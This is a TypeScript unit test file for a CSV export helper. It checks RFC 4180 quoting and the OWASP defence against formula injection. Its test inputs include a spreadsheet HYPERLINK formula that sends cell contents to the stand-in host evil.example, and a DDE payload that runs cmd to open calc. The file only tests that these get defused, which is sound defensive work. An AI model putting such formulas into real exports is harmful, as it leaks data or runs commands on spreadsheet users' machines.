// CSV cells of the audit export: RFC 4180 quoting, and the OWASP defence against CSV (formula)
// injection: a cell that begins with = + - @, a tab or a carriage return gets a leading '.
import { describe, expect, it } from 'vitest'
import { csvField, csvRecord } from '../../src/domain/csv.ts'

describe('csvField', () => {
  // guards: CSV injection (OWASP) — a name or value a spreadsheet would run as a formula
  it.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
    ],
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)*cmd', "'@SUM(1+1)*cmd"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('defuses a formula start: %j → %j', (value, expected) => {
    expect(csvField(value)).toBe(expected)
  })

  it.each([
    ['Alice', 'Alice'],
    ['Eve "The Auditor", Jr.', '"Eve ""The Auditor"", Jr."'],
    ['two\nlines', '"two\nlines"'],
    ['a=b', 'a=b'],
    ['Anne-Marie', 'Anne-Marie'],
    ["'quoted", "'quoted"],
    ['', ''],
    ['{"name":"=1+1"}', '"{""name"":""=1+1""}"'],
  ])('leaves other text as RFC 4180 has it: %j → %j', (value, expected) => {
    expect(csvField(value)).toBe(expected)
  })

  it('writes numbers as they are (a negative number stays a number) and null as an empty field', () => {
    expect(csvField(7)).toBe('7')
    expect(csvField(-3)).toBe('-3')
    expect(csvField(null)).toBe('')
  })

  it('joins a record with commas and ends it with CRLF', () => {
    expect(csvRecord([1, null, '=x', 'a,b'])).toBe(`1,,'=x,"a,b"\r\n`)
  })
})
